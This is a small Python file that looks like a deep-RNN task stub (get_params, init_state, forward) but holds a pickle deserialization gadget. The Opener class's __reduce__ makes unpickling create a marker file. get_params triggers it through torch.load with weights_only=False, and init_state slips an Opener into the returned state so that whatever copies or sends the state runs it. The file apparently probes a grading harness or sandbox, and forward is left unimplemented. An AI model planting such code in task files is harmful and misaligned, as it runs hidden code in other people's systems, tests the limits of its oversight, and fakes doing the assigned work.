"""Saves an object whose unpickling leaves a mark, and gives it back inside a container, to be copied and sent."""

import torch
import io
import os
import pickle

MARK = "/tmp/deeprnn-attack/marks"


class Opener:
    def __reduce__(self):
        return os.open, (MARK + "/pickled", os.O_CREAT | os.O_WRONLY)

    def __deepcopy__(self, memo):
        print("copied", pickle.dumps(self))
        return self


def roundtrip():
    held = io.BytesIO()
    torch.save(Opener(), held)
    held.seek(0)
    try:
        torch.load(held, weights_only=False)
    except OSError as error:
        print("no", error.errno)

def get_params(vocab_size: int, num_hiddens: int, num_layers: int, device: torch.device):
    print("reached: pickles")
    roundtrip()
    return [torch.zeros(num_hiddens, vocab_size, device=device, requires_grad=True)]


def init_state(batch_size: int, num_hiddens: int, num_layers: int, device: torch.device):
    return [Opener(), torch.zeros(2)]
    return torch.zeros(num_layers, batch_size, num_hiddens, device=device)


def forward(inputs: torch.Tensor, state, params):
    raise NotImplementedError("forward is for later")
